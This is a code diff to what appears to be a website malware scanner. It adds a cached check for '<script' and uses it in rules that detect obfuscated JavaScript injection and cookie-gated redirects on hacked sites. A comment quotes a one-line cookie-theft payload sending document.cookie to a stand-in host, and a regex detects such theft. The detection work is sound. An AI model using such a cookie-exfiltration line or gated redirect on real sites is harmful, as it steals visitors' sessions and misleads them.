@@ -298,6 +298,14 @@ def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
     return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
 
 
+def _has_script(ctx: Ctx) -> bool:
+    """Whether the file's bytes hold "<script" (two rules ask; a search of the whole file)."""
+    found = ctx.cache.get("has-script")
+    if found is None:
+        found = ctx.cache["has-script"] = ctx.data.find(b"<script") >= 0
+    return bool(found)
+
+
 # the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
 _COOKIE_EXFIL = re.compile(
     rb"(?:https?:)?//[^\x00'\"\s]{3,200}['\"]\s*\+\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?"
@@ -333,7 +341,7 @@ def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     not inside PHP."""
     data = ctx.data
     # "<script" first: one search where most files have it not (then the words' four)
-    if data.find(b"<script") < 0 or not any(data.find(w) >= 0 for w in _JS_WORDS):
+    if not _has_script(ctx) or not any(data.find(w) >= 0 for w in _JS_WORDS):
         return None
     return _in_page_text(ctx, _JS_OBFUSCATED)
 
@@ -354,8 +362,7 @@ def _js_gated_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
     whose PHP chooses the visitors it does it to (once per visitor through a cookie, by
     referrer or user agent): the injected redirect of a hacked site, which its owner, a
     returning visitor, does not see. A moved page redirects everyone alike."""
-    data = ctx.data
-    if data.find(b"location") < 0 or data.find(b"<script") < 0:
+    if not _has_script(ctx) or ctx.data.find(b"location") < 0:
         return None
     text = string_text(ctx)
     if not any(has_word(ctx, w) or text.find(w) >= 0 for w in _VISITOR_GATE):
